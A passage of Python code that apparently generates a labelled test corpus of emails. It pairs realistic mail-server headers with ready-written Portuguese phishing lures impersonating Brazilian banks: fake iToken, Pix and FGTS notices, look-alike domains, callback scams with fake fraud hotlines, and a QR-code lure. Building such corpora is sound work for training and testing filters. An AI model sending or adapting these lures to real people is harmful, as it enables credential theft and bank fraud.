                f" Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{num(tag+'ev', 8000, 9400)}.{num(tag+'ev2', 10, 40)}; {utc(t + timedelta(seconds=1))}",
                f"Received: from {prot}\n (2603:10b6:{hx(tag+'v67', 3)}:{hx(tag+'v68', 3)}:cafe::{hx(tag+'v69', 2)}) by {edge}\n"
                f" (2603:10b6:{hx(tag+'v6a', 3)}:{hx(tag+'v6b', 3)}::{hx(tag+'v6c', 2)}) with Microsoft SMTP Server (version=TLS1_3,\n"
                f" cipher=TLS_AES_256_GCM_SHA384) id 15.20.{num(tag+'ev3', 8000, 9400)}.{num(tag+'ev4', 10, 40)} via Frontend Transport; {utc(t + timedelta(seconds=1))}",
                ar,
                f"Received-SPF: {spf_word} (protection.outlook.com: domain of {mf_dom}\n {'designates' if m.spf == 'pass' else 'does not designate'} {m.ip} as permitted sender)\n"
                f" receiver=protection.outlook.com; client-ip={m.ip};\n helo={m.helo}; pr=C",
                f"Received: from {m.helo} ({m.ip}) by\n {prot} (10.{num(tag+'pi', 1, 250)}.{num(tag+'pi2', 1, 250)}.{num(tag+'pi3', 1, 250)}) with Microsoft SMTP Server (version=TLS1_3,\n"
                f" cipher=TLS_AES_256_GCM_SHA384) id 15.20.{num(tag+'ev5', 8000, 9400)}.{num(tag+'ev6', 10, 40)} via Frontend Transport; {utc(t)}",
                ]
        out_tail = [f"X-IncomingHeaderCount: {num(tag+'ihc', 18, 40)}",
                    f"Return-Path: {m.mailfrom if '@' in m.mailfrom else 'postmaster@' + m.helo}",
                    f"X-MS-Exchange-Organization-ExpirationStartTime: {t.astimezone(timezone.utc):%d %b %Y %H:%M:%S.%f}"[:-3] + " (UTC)",
                    "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
                    "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
                    "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
                    "X-MS-Exchange-Organization-Network-Message-Id:\n " + uuid(tag + "nmid"),
                    "X-EOPAttributedMessage: 0",
                    f"X-MS-Exchange-Organization-MessageDirectionality: Incoming",
                    f"X-MS-PublicTrafficType: Email",
                    f"X-MS-Exchange-Organization-AuthSource:\n {edge}",
                    "X-MS-Exchange-Organization-AuthAs: Anonymous",
                    f"X-MS-Exchange-CrossTenant-Id: {org_id}",
                    f"X-MS-Exchange-Organization-SCL: {1 if dmarc != 'fail' else 5}",
                    f"X-Microsoft-Antispam: BCL:{0 if m.folder != 'bulk' else num(tag+'bcl', 3, 7)};ARA:{num(tag+'ara', 1000000, 9999999)}|{num(tag+'ara2', 100, 999)};"]
        out += out_tail
    elif rx in ("uol", "bol"):
        mxh = f"a{num(tag+'ux', 1, 9)}-mx{num(tag+'ux2', 1, 4)}.uol.com.br"
        out += [f"Return-Path: <{m.mailfrom}>",
                f"Received: from {mxh} (mx-int-{num(tag+'ui', 1, 9)}.uol.com.br [10.{num(tag+'u1', 1, 250)}.{num(tag+'u2', 1, 250)}.{num(tag+'u3', 1, 250)}])\n"
                f"\tby a{num(tag+'ux3', 1, 9)}-store{num(tag+'ux4', 1, 9)}.uol.com.br (Postfix) with ESMTP id {upper(tag+'uq', 10)}\n\tfor <{m.rcpt}>; {rfc(t + timedelta(seconds=1))}",
                f"Authentication-Results: {mxh};\n\tspf={m.spf} smtp.mailfrom={m.mailfrom if '@' in m.mailfrom else m.helo};\n\t" +
                (";\n\t".join(f"dkim={r} header.d={d} header.s={s}" for d, s, r in dk) or "dkim=none") +
                f";\n\tdmarc={dmarc} header.from={from_dom}",
                f"Received: from {m.helo} ({rhost})\n\tby {mxh} (Postfix) with ESMTPS id {upper(tag+'uq2', 10)}\n"
                f"\tfor <{m.rcpt}>; {rfc(t)}"]
    elif rx == "terra":
        mxh = f"mx{num(tag+'tx', 1, 4)}.terra.com.br"
        out += [f"Return-Path: <{m.mailfrom}>",
                f"Delivered-To: {m.rcpt}",
                f"Received: from {mxh} (localhost [127.0.0.1])\n\tby mailbox{num(tag+'tb', 1, 9)}.terra.com.br (Postfix) with LMTP id {upper(tag+'tq', 10)}\n"
                f"\tfor <{m.rcpt}>; {rfc(t + timedelta(seconds=1))}",
                f"Authentication-Results: {mxh};\n\tspf={m.spf} smtp.mailfrom={m.mailfrom if '@' in m.mailfrom else m.helo};\n\t" +
                (";\n\t".join(f"dkim={r} header.d={d} header.s={s}" for d, s, r in dk) or "dkim=none") +
                f";\n\tdmarc={dmarc} header.from={from_dom}",
                f"Received: from {m.helo} ({rhost})\n\tby {mxh} (Postfix) with ESMTPS id {upper(tag+'tq2', 10)}\n"
                f"\tfor <{m.rcpt}>; {rfc(t)}"]
    elif rx in ("postfix", "locaweb"):
        mxh = m.rx_host or ("mx.a.locaweb.com.br" if rx == "locaweb" else f"mail.{m.rcpt.split('@')[1]}")
        store = f"mbox{num(tag+'lb', 10, 99)}.locaweb.com.br" if rx == "locaweb" else mxh
        qid = upper(tag + "pq", 11)
        out += [f"Return-Path: <{m.mailfrom}>",
                f"Delivered-To: {m.rcpt}"]
        if rx == "locaweb":
            out.append(f"Received: from {mxh} (unknown [10.{num(tag+'l1', 1, 250)}.{num(tag+'l2', 1, 250)}.{num(tag+'l3', 1, 250)}])\n"
                       f"\tby {store} (Postfix) with LMTP id {upper(tag+'lq', 10)}\n\tfor <{m.rcpt}>; {rfc(t + timedelta(seconds=1))}")
        ar = [f"{mxh}"]
        for d, s, r in dk:
            ar.append(f"dkim={r} ({'2048-bit key; unprotected' if r == 'pass' else 'signature verification failed'}) header.d={d} header.i=@{d} header.b=\"{b64s(tag+d+'pf', 8)}\"")
        if not dk:
            ar.append("dkim=none")
        ar.append(f"spf={m.spf} ({mxh}: domain of {m.mailfrom} {'designates' if m.spf == 'pass' else 'does not designate'} {m.ip} as permitted sender) smtp.mailfrom={m.mailfrom}")
        ar.append(f"dmarc={dmarc} (p={m.policy or 'none'} dis=none) header.from={from_dom}")
        out += ["Authentication-Results: " + ";\n\t".join(ar),
                f"Received: from {m.helo} ({rhost})\n\tby {mxh} (Postfix) with ESMTPS id {qid}\n\tfor <{m.rcpt}>; {rfc(t)}"]
        if rx == "postfix":
            out.insert(2, f"X-Rspamd-Queue-Id: {qid}")
            out.insert(3, f"X-Rspamd-Server: {mxh}")
    else:
        raise ValueError(rx)
    return out


# ---------------------------------------------------------------- assembling

ALL: list[Mail] = []


def add(m: Mail) -> Mail:
    ALL.append(m)
    return m


def hdr_addr(value: str, charset: str = "utf-8", mode: str = "B") -> str:
    """Encode the display name of a '"Name" <addr>' / 'Name <addr>' value when it is not ASCII."""
    import re
    if value.isascii():
        return value
    mt = re.fullmatch(r'\s*"?([^"<]*?)"?\s*<([^>]+)>\s*', value)
    assert mt, value
    return addr(mt.group(1), mt.group(2), charset, mode)


def render(m: Mail) -> bytes:
    hops, extra = origin_headers(m)
    rx = receive_headers(m)
    sigs = [dkim_sig(d, s, m.stem + d, t=m.date) for d, s, r in m.dkim if r != "none"]
    to = m.to or m.rcpt
    core = [f"From: {addr(m.from_name, m.from_addr, m.charset, m.hmode) if m.from_name else m.from_addr}",
            f"To: {hdr_addr(to, m.charset, m.hmode)}"]
    if m.cc:
        core.append(f"Cc: {hdr_addr(m.cc, m.charset, m.hmode)}")
    if m.reply_to:
        core.append(f"Reply-To: {hdr_addr(m.reply_to, m.charset, m.hmode)}")
    core += [f"Subject: {enc(m.subject, m.charset, m.hmode)}",
             f"Date: {rfc(m.date)}",
             f"Message-ID: {m.msgid}"]
    head = rx + hops + sigs + core + extra + m.extra
    return message("\n".join(head), m.body)


# ---------------------------------------------------------------- body helpers


def alt(plain: str, html: str, boundary: str, charset: str = "utf-8", enc_: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc_, charset), text(html, "html", enc_, charset)])


def bnd(tag: str, style: str = "generic") -> str:
    if style == "gmail":
        return f"000000000000{hx(tag+'gb', 16)}"
    if style == "outlook":
        return f"_000_{pick_box(tag)}{upper(tag+'ob', 8)}BRAP284PROD_"
    if style == "ol16":
        return f"----=_NextPart_000_00{HX(tag+'np', 2)}_01DB{HX(tag+'np2', 4)}.{HX(tag+'np3', 8)}"
    if style == "php":
        return f"b1=_{alnum(tag+'php', 40)}"
    if style == "sg":
        return hx(tag + "sg", 60)
    if style == "zimbra":
        return f"=_{uuid(tag+'zb')}"
    return f"----=_Part_{num(tag+'p1', 100000, 999999)}_{num(tag+'p2', 100000000, 999999999)}.{num(tag+'p3', 1700000000000, 1799999999999)}"


def html_doc(inner: str, title: str = "", head_extra: str = "") -> str:
    return ("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" "
            "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n"
            "<html xmlns=\"http://www.w3.org/1999/xhtml\" lang=\"pt-BR\">\n<head>\n"
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\" />\n"
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1.0\" />\n"
            f"<title>{title}</title>\n{head_extra}</head>\n<body style=\"margin:0;padding:0;background:#f2f2f2;\">\n"
            f"{inner}\n</body>\n</html>\n")


def esp_card(*, color: str, logo: str, logo_alt: str, preheader: str, title: str, paras: list[str],
             button: tuple[str, str] | None = None, after: list[str] | None = None, footer: list[str],
             pixel: str = "", width: int = 600, font: str = "Arial, Helvetica, sans-serif") -> str:
    """A table-based transactional/marketing layout as ESP templates write it."""
    ps = "\n".join(f'<tr><td style="padding:0 32px 14px 32px;font-family:{font};font-size:15px;line-height:22px;color:#333333;">{p}</td></tr>'
                   for p in paras)
    btn = ""
    if button:
        btn = (f'<tr><td align="center" style="padding:10px 32px 24px 32px;">'
               f'<table role="presentation" cellpadding="0" cellspacing="0" border="0"><tr>'
               f'<td bgcolor="{color}" style="border-radius:6px;">'
               f'<a href="{button[1]}" target="_blank" style="display:inline-block;padding:14px 28px;font-family:{font};'
               f'font-size:15px;font-weight:bold;color:#ffffff;text-decoration:none;">{button[0]}</a>'
               f'</td></tr></table></td></tr>')
    aft = "\n".join(f'<tr><td style="padding:0 32px 12px 32px;font-family:{font};font-size:13px;line-height:19px;color:#555555;">{p}</td></tr>'
                    for p in (after or []))
    foot = "<br />\n".join(footer)
    px = f'<img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0;" />' if pixel else ""
    inner = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">{preheader}</div>\n'
             f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f2f2">\n<tr><td align="center" style="padding:24px 8px;">\n'
             f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="max-width:{width}px;width:100%;">\n'
             f'<tr><td bgcolor="{color}" style="padding:20px 32px;"><img src="{logo}" alt="{logo_alt}" width="120" style="display:block;border:0;" /></td></tr>\n'
             f'<tr><td style="padding:28px 32px 12px 32px;font-family:{font};font-size:22px;line-height:28px;font-weight:bold;color:#222222;">{title}</td></tr>\n'
             f'{ps}\n{btn}\n{aft}\n'
             f'<tr><td style="padding:20px 32px;background:#fafafa;font-family:{font};font-size:11px;line-height:16px;color:#888888;">{foot}</td></tr>\n'
             f'</table>\n{px}\n</td></tr>\n</table>')
    return html_doc(inner, title)


def plain_of(title: str, paras: list[str], button: tuple[str, str] | None = None, footer: list[str] | None = None) -> str:
    import re
    def strip(s):
        s = re.sub(r"<br\s*/?>", "\n", s)
        s = re.sub(r"<a [^>]*href=\"([^\"]+)\"[^>]*>(.*?)</a>", r"\2 (\1)", s)
        s = re.sub(r"<[^>]+>", "", s)
        return s.replace("&nbsp;", " ").replace("&amp;", "&")
    out = [strip(title), ""]
    for p in paras:
        out += [strip(p), ""]
    if button:
        out += [f"{button[0]}: {button[1]}", ""]
    for f in footer or []:
        out.append(strip(f))
    return "\n".join(out) + "\n"


def kit_html(inner: str, title: str = "") -> str:
    """Phishing-kit style: short HTML4 document with inline styles, no doctype quirks."""
    return (f"<html>\n<head>\n<meta charset=\"UTF-8\">\n<title>{title}</title>\n</head>\n"
            f"<body style=\"font-family: Arial, sans-serif; background-color:#ffffff;\">\n{inner}\n</body>\n</html>\n")


def outlook_html(paras_html: str, sig: str = "") -> str:
    return ("<html>\n<head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n"
            "<style type=\"text/css\" style=\"display:none;\"> P {margin-top:0;margin-bottom:0;} </style>\n"
            "</head>\n<body dir=\"ltr\">\n"
            f"<div class=\"elementToProof\" style=\"font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);\">\n"
            f"{paras_html}\n</div>\n{sig}\n</body>\n</html>\n")


def gmail_html(paras: list[str]) -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    return f"<div dir=\"ltr\">{inner}</div>\n"


# ---------------------------------------------------------------- recipients

HOT1 = "mariana.souza88@hotmail.com"
HOT2 = "edu.santos1979@outlook.com"
GM1 = "joaopedro.almeida@gmail.com"
GM2 = "luciana.ferraz.adv@gmail.com"
UOL1 = "rcosta@uol.com.br"
BOL1 = "fernanda_lima@bol.com.br"
TERRA1 = "carlos.menezes@terra.com.br"
LW = "financeiro@padariaduqueza.com.br"  # small company on Locaweb hosting
PF = "contato@oficinaboaviagem.com.br"  # small company, self-hosted Postfix + Rspamd
MS = "compras@construtoravaledosol.com.br"  # small company on Microsoft 365


def a(label: str, url: str, style: str = "color:#0b57d0;") -> str:
    return f'<a href="{url}" target="_blank" style="{style}">{label}</a>'


def sg_click(tag: str) -> str:
    return f"https://u{digits(tag+'u', 8)}.ct.sendgrid.net/ls/click?upn=u001.{b64s(tag+'upn', 90).replace('+', '-').replace('/', '_')}"


def ses_click(tag: str, target: str) -> str:
    from urllib.parse import quote
    return (f"https://{lower(tag+'aws', 8)}.r.us-east-1.awstrack.me/L0/{quote(target, safe='')}"
            f"/1/0100019{hx(tag+'a1', 9)}-{uuid(tag+'a2')}-000000/{b64s(tag+'a3', 28).replace('/', '_')}=4{num(tag+'a4', 10, 99)}")


def mg_click(tag: str, dom: str) -> str:
    return f"https://email.{dom}/c/{b64s(tag+'mgc', 120).replace('+', '-').replace('/', '_')}"


def brevo_click(tag: str) -> str:
    return f"https://{lower(tag+'bv', 5)}.r.sp1-brevo.net/mk/cl/f/sh/{alnum(tag+'bvc', 30)}/{alnum(tag+'bvd', 12)}"


# ================================================================= ATTACKS


def attacks_1():
    # 1 Itaú iToken / app update, look-alike domain on SendGrid
    tag = "itau-token"
    link = sg_click(tag)
    paras = ["Olá, cliente Itaú.",
             "Identificamos que o seu <b>iToken no aplicativo</b> está em uma versão que deixará de ser suportada "
             "a partir de <b>18/03/2025</b>. Para continuar realizando Pix, pagamentos e transferências, é necessário "
             "reativar o dispositivo de segurança.",
             "O procedimento leva menos de 2 minutos e deve ser feito em até <b>24 horas</b>. Após esse prazo, "
             "as transações pelo app e pelo internet banking serão suspensas preventivamente.",
             "Agência e conta já vinculadas ao seu CPF. Tenha em mãos a senha eletrônica de 6 dígitos e o cartão."]
    foot = ["Itaú Unibanco S.A. - CNPJ 60.701.190/0001-04", "Esta é uma mensagem automática, por favor não responda.",
            "Central de Atendimento: 4004 4828 (capitais) | 0800 970 4828 (demais localidades)"]
    html = esp_card(color="#EC7000", logo="https://cdn-itau-seguranca-app.com/img/logo-itau-branco.png", logo_alt="Itaú",
                    preheader="Reative seu iToken em até 24h e evite bloqueio", title="Atualização obrigatória do iToken",
                    paras=paras, button=("Reativar iToken agora", link), footer=foot,
                    pixel=f"https://u{digits(tag+'u', 8)}.ct.sendgrid.net/wf/open?upn=u001.{b64s(tag+'op', 60)}")
    body = alt(plain_of("Atualização obrigatória do iToken", paras, ("Reativar iToken agora", link), foot), html, bnd(tag, "sg"))
    add(Mail(f"b{N}-phish-itau-itoken-sendgrid", "phishing",
             "Itaú lure saying the iToken app version is being retired and must be reactivated in 24h, sent from a look-alike domain through SendGrid with click tracking to a credential kit.",
             HOT1, "outlook", "sendgrid", "Itaú Unibanco", "comunicado@itau-seguranca-app.com",
             "Seu iToken será desativado em 24h - reative o dispositivo de segurança", dt(2025, 3, 17, 8, 42, 11), body))

    # 2 Bradesco chave de segurança from a compromised city-hall Zimbra mailbox
    tag = "bradesco-chave"
    url = f"https://www.clinicaodontovida.com.br/wp-includes/js/bdc/acesso.php?protocolo={digits(tag+'p', 8)}"
    html = ("<html><body><div style=\"font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000\">"
            "<div><img src=\"https://www.clinicaodontovida.com.br/wp-includes/js/bdc/topo-bradesco.png\" width=\"560\" alt=\"Bradesco\"></div>"
            "<div><br></div><div>Prezado(a) cliente,</div><div><br></div>"
            "<div>Sua <strong>Chave de Segurança Bradesco</strong> foi bloqueada temporariamente após tentativas de acesso "
            "em um dispositivo não cadastrado (Samsung SM-A546E, São Paulo/SP).</div><div><br></div>"
            "<div>Para desbloquear e manter seu acesso ao Bradesco Celular e Internet Banking, realize a sincronização "
            f"da chave pelo link abaixo:</div><div><br></div><div><a href=\"{url}\" target=\"_blank\" rel=\"nofollow noopener noreferrer\">"
            "<strong>SINCRONIZAR CHAVE DE SEGURANÇA</strong></a></div><div><br></div>"
            f"<div>Protocolo: {digits(tag+'p', 8)}<br>Prazo para regularização: 48 horas</div><div><br></div>"
            "<div>Atenciosamente,<br>Banco Bradesco S.A.<br>Central de Segurança</div></div></body></html>\n")
    plain = ("Prezado(a) cliente,\n\nSua Chave de Segurança Bradesco foi bloqueada temporariamente após tentativas de acesso "
             "em um dispositivo não cadastrado (Samsung SM-A546E, São Paulo/SP).\n\nPara desbloquear e manter seu acesso ao "
             f"Bradesco Celular e Internet Banking, realize a sincronização da chave pelo link abaixo:\n\n"
             f"SINCRONIZAR CHAVE DE SEGURANÇA [{url}]\n\nProtocolo: {digits(tag+'p', 8)}\nPrazo para regularização: 48 horas\n\n"
             "Atenciosamente,\nBanco Bradesco S.A.\nCentral de Segurança\n")
    m = Mail(f"b{N}-phish-bradesco-chave-prefeitura", "phishing",
             "Bradesco 'Chave de Segurança bloqueada' lure sent from a compromised municipal Zimbra mailbox (display name spoofing the bank) linking to a kit on a hacked WordPress site.",
             GM1, "gmail", "zimbra", "Bradesco Net", "licitacoes@novaesperanca.pr.gov.br",
             "Bradesco: Chave de Segurança bloqueada - Protocolo " + digits(tag + "p", 8), dt(2024, 10, 8, 14, 5, 37),
             alt(plain, html, bnd(tag, "zimbra")), ip="177.53.140.18", rdns="mail.novaesperanca.pr.gov.br",
             policy="", dkim=[], to=f"<{GM1}>")
    m.client_ip = "102.129.153.44"
    add(m)

    # 3 Caixa FGTS saque, look-alike domain on own VPS
    tag = "caixa-fgts"
    url = "https://caixa-beneficiosocial.online/fgts/consulta?origem=email&ref=" + lower(tag + "r", 10)
    inner = ("<div style=\"max-width:600px;margin:0 auto;border:1px solid #dddddd;\">"
             "<div style=\"background:#005CA9;padding:18px;\"><img src=\"https://caixa-beneficiosocial.online/assets/caixa.png\" height=\"40\" alt=\"CAIXA\"></div>"
             "<div style=\"padding:24px;color:#333;font-size:15px;line-height:1.5;\">"
             "<h2 style=\"color:#005CA9;margin-top:0;\">Saque Extraordinário do FGTS liberado</h2>"
             "<p>Prezado(a) trabalhador(a),</p>"
             "<p>Conforme a Medida Provisória publicada no Diário Oficial da União, você tem direito ao <b>saque de até R$ 3.412,00</b> "
             "do saldo das contas ativas e inativas do FGTS.</p>"
             "<p>Verificamos que o valor ainda <b>não foi resgatado</b>. O prazo para solicitar o crédito em conta termina em <b>5 dias</b>.</p>"
             f"<p style=\"text-align:center;margin:28px 0;\"><a href=\"{url}\" style=\"background:#F39200;color:#fff;padding:14px 26px;text-decoration:none;border-radius:4px;font-weight:bold;\">CONSULTAR MEU SALDO</a></p>"
             "<p>Tenha em mãos seu CPF e os dados da sua conta bancária para o crédito.</p>"
             "<p style=\"font-size:12px;color:#777;\">Caixa Econômica Federal - SAC CAIXA 0800 726 0101<br>Esta mensagem foi enviada automaticamente.</p>"
             "</div></div>")
    add(Mail(f"b{N}-phish-caixa-fgts-saque", "phishing",
             "Caixa 'saque extraordinário do FGTS' lure from a look-alike .online domain on the attacker's own Postfix VPS, asking for CPF and bank data on the kit.",
             UOL1, "uol", "postfix", "CAIXA", "atendimento@caixa-beneficiosocial.online",
             "FGTS: Saque Extraordinário disponível - consulte seu saldo até 25/07", dt(2025, 7, 20, 19, 12, 3),
             Multi("alternative", bnd(tag), [text(kit_html(inner, "CAIXA"), "html", "base64")]),
             ip="191.101.78.201", rdns="vps-78201.hostnetbr.net", helo="mail.caixa-beneficiosocial.online",
             dkim=[("caixa-beneficiosocial.online", "default", "pass")], policy=""))

    # 4 Banco do Brasil limite Pix from a free Gmail account
    tag = "bb-limite"
    url = "https://encurtador.com.br/" + alnum(tag + "s", 5)
    paras = ["Prezado cliente Banco do Brasil,", "",
             "Informamos que o seu <b>limite diário de Pix foi reduzido para R$ 200,00</b> por falta de atualização cadastral "
             "conforme a Resolução BCB nº 142/2021.",
             "", "Para restabelecer o seu limite e evitar o bloqueio do aplicativo BB, acesse o link abaixo e confirme seus dados:",
             "", f"<a href=\"{url}\">{url}</a>", "",
             "Caso a atualização não seja realizada em até 24 horas, o acesso ao app será suspenso.", "",
             "Atenciosamente,", "Banco do Brasil S.A.", "Central de Relacionamento BB"]
    plain = "\n".join(p.replace("<b>", "*").replace("</b>", "*") if not p.startswith("<a") else url for p in paras) + "\n"
    add(Mail(f"b{N}-phish-bb-limite-pix-gmail", "phishing",
             "Banco do Brasil 'limite Pix reduzido, atualize seu cadastro' lure from a free Gmail account with a display name of the bank and a URL shortener link.",
             BOL1, "bol", "gmail", "Banco do Brasil", "bb.atendimento.cadastro.pix@gmail.com",
             "Aviso: seu limite Pix foi reduzido - atualização cadastral pendente", dt(2024, 11, 26, 7, 58, 40),
             alt(plain, gmail_html(paras), bnd(tag, "gmail")), policy="none"))

    # 5 Santander compra não reconhecida, callback, no links, from Outlook.com
    tag = "santander-callback"
    plain = ("Prezado(a) Cliente,\n\n"
             "Identificamos uma compra em análise no seu cartão Santander final 4471:\n\n"
             "Estabelecimento: MAGAZINE LUIZA*APPLE IPHONE\n"
             "Valor: R$ 7.849,00 (em 1x)\n"
             "Data: 04/02/2025 às 23:17\n"
             "Local: Recife - PE\n\n"
             "Se você NÃO reconhece esta transação, entre em contato IMEDIATAMENTE com nossa Central de Prevenção a Fraudes "
             "para cancelamento e estorno:\n\n"
             "Central Santander Prevenção: 0800 878 2410\n"
             "Capitais e regiões metropolitanas: (11) 3181-4790\n"
             "Atendimento 24 horas, inclusive fins de semana.\n\n"
             "Caso não haja contato em até 2 horas, a compra será confirmada e lançada na sua próxima fatura.\n\n"
             "Protocolo: SAN" + digits(tag, 10) + "\n\n"
             "Banco Santander (Brasil) S.A.\nDepartamento de Segurança de Cartões\n")
    html = outlook_html("<p>" + "</p>\n<p>".join(x.replace("\n", "<br>") for x in plain.strip().split("\n\n")) + "</p>")
    add(Mail(f"b{N}-phish-santander-compra-callback", "phishing",
             "Santander 'compra não reconhecida de R$ 7.849' callback scam from a free Outlook.com account: no links, only fake fraud-prevention phone numbers to call.",
             TERRA1, "terra", "outlook", "Santander Brasil", "prevencao.santander.cartoes@outlook.com",
             "Compra não reconhecida no seu cartão final 4471 - ação necessária", dt(2025, 2, 4, 23, 31, 50),
             alt(plain, html, bnd(tag, "outlook")), policy="none"))

    # 6 Nubank Pix agendado callback via Brevo
    tag = "nubank-pix-agendado"
    inner = ("<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" style=\"background:#f4f0fa;\"><tr><td align=\"center\">"
             "<table width=\"560\" cellpadding=\"0\" cellspacing=\"0\" style=\"background:#ffffff;font-family:Helvetica,Arial,sans-serif;\">"
             "<tr><td style=\"background:#820AD1;padding:22px;\"><img src=\"https://img.mailinblue.com/8123551/images/content_library/original/nu-logo.png\" width=\"64\" alt=\"Nu\"></td></tr>"
             "<tr><td style=\"padding:28px;color:#111;font-size:15px;line-height:23px;\">"
             "<p style=\"font-size:20px;font-weight:bold;\">Pix agendado com sucesso</p>"
             "<p>Olá! Um Pix foi agendado na sua conta Nubank:</p>"
             "<p><b>Valor:</b> R$ 1.890,00<br><b>Para:</b> Rodrigo F. S. Martins<br><b>Instituição:</b> Banco C6 S.A.<br>"
             "<b>Data do débito:</b> hoje, 22:00</p>"
             "<p>Se foi você, não precisa fazer nada.</p>"
             "<p><b>Não reconhece este agendamento?</b> Ligue agora para nosso time de segurança e cancele antes do débito:</p>"
             "<p style=\"font-size:22px;font-weight:bold;color:#820AD1;\">0800 591 3380</p>"
             "<p>Ou pelo WhatsApp de segurança: (11) 95321-4408</p>"
             "<p style=\"font-size:12px;color:#666;\">Nu Pagamentos S.A. - Instituição de Pagamento. Nunca pedimos sua senha por telefone.</p>"
             "</td></tr></table></td></tr></table>")
    unsub = brevo_click(tag + "u")
    html = kit_html(inner + f"<p style=\"font-size:10px;color:#999;text-align:center;\"><a href=\"{unsub}\">Cancelar inscrição</a></p>", "Nubank")
    plain = ("Pix agendado com sucesso\n\nOlá! Um Pix foi agendado na sua conta Nubank:\n\nValor: R$ 1.890,00\nPara: Rodrigo F. S. Martins\n"
             "Instituição: Banco C6 S.A.\nData do débito: hoje, 22:00\n\nSe foi você, não precisa fazer nada.\n\n"
             "Não reconhece este agendamento? Ligue agora para nosso time de segurança e cancele antes do débito:\n0800 591 3380\n"
             "Ou pelo WhatsApp de segurança: (11) 95321-4408\n\nNu Pagamentos S.A. - Instituição de Pagamento.\n")
    add(Mail(f"b{N}-phish-nubank-pix-agendado-brevo", "phishing",
             "Nubank 'Pix agendado de R$ 1.890' callback scam sent through Brevo from a look-alike domain: the only call to action is a fake security phone and WhatsApp number.",
             GM2, "gmail", "brevo", "Nubank", "avisos@nu-seguranca.com",
             "Pix agendado: R$ 1.890,00 para Rodrigo F. S. Martins", dt(2025, 5, 13, 17, 4, 26),
             alt(plain, html, bnd(tag)), policy="",
             extra=[f"List-Unsubscribe: <{unsub}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]))

    # 7 Inter app update with QR code (quishing) via Mailgun
    tag = "inter-qr"
    qurl = f"https://inter-atualiza.com/app/v2?t={b64s(tag+'t', 22).replace('/', '_').replace('+', '-')}"
    qr = files.qr_png(qurl)
    html = ("<html><body style=\"margin:0;background:#ffffff;\"><center>"
            "<table width=\"520\" style=\"font-family:Arial,sans-serif;\"><tr><td style=\"background:#FF7A00;padding:16px;color:#fff;font-size:24px;font-weight:bold;\">inter</td></tr>"
            "<tr><td style=\"padding:20px;font-size:15px;color:#333;\">"
            "<p><b>Atualização de segurança obrigatória do Super App Inter</b></p>"
            "<p>A partir de 10/09 a versão instalada no seu celular deixará de autorizar transações Pix e pagamentos.</p>"
            "<p>Para manter sua conta ativa, <b>aponte a câmera do seu celular para o QR Code abaixo</b> e siga as instruções. "
            "O processo é feito pelo próprio celular por motivos de segurança.</p>"
            "<p style=\"text-align:center;\"><img src=\"cid:qr-inter@app\" width=\"220\" height=\"220\" alt=\"QR Code\"></p>"
            "<p style=\"font-size:12px;color:#888;\">Banco Inter S.A. - Belo Horizonte/MG. Mensagem automática.</p>"
            "</td></tr></table></center></body></html>\n")
    plain = ("Atualização de segurança obrigatória do Super App Inter\n\nA partir de 10/09 a versão instalada no seu celular deixará de autorizar "
             "transações Pix e pagamentos.\n\nPara manter sua conta ativa, aponte a câmera do seu celular para o QR Code desta mensagem.\n\nBanco Inter S.A.\n")
    body = Multi("related", bnd(tag + "r"), [alt(plain, html, bnd(tag)),
                                              attachment("image/png", "qrcode.png", qr, inline=True, cid="qr-inter@app")],
                 params=' type="multipart/alternative";')
    add(Mail(f"b{N}-phish-inter-app-qrcode", "phishing",
             "Banco Inter mandatory app-update lure carrying only an inline QR code (quishing) to a look-alike domain, sent through Mailgun so no clickable phishing URL appears in the body.",
             HOT2, "outlook", "mailgun", "Banco Inter", "seguranca@mg.inter-atualiza.com",
             "Atualização obrigatória do Super App Inter", dt(2025, 9, 5, 10, 21, 9), body, policy=""))

    # 8 C6 cartão bloqueado from a compromised Locaweb mailbox, kit on storage.googleapis.com
    tag = "c6-bloqueio"
    url = "https://storage.googleapis.com/c6-desbloqueio-cartao-7781/index.html#" + lower(tag + "h", 12)
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Calibri,Arial;font-size:11pt;\">"
            "<p style=\"background:#242424;color:#fff;padding:12px;font-size:18px;\"><b>C6 BANK</b></p>"
            "<p>Olá,</p><p>Seu <b>cartão C6 Carbon</b> foi <b>bloqueado preventivamente</b> por suspeita de uso indevido.</p>"
            "<p>Para desbloquear, confirme sua identidade e o dispositivo cadastrado. O procedimento deve ser feito hoje para evitar "
            "o cancelamento definitivo do cartão e a emissão de um novo plástico com tarifa.</p>"
            f"<p><a href=\"{url}\" style=\"background:#FFD100;color:#000;padding:10px 20px;text-decoration:none;\"><b>Desbloquear cartão</b></a></p>"
            "<p>Equipe C6 Bank</p></div></body></html>\n")
    plain = ("C6 BANK\n\nOlá,\n\nSeu cartão C6 Carbon foi bloqueado preventivamente por suspeita de uso indevido.\n\n"
             "Para desbloquear, confirme sua identidade e o dispositivo cadastrado:\n" + url + "\n\nEquipe C6 Bank\n")
    m = Mail(f"b{N}-phish-c6-cartao-bloqueado-gcs", "phishing",
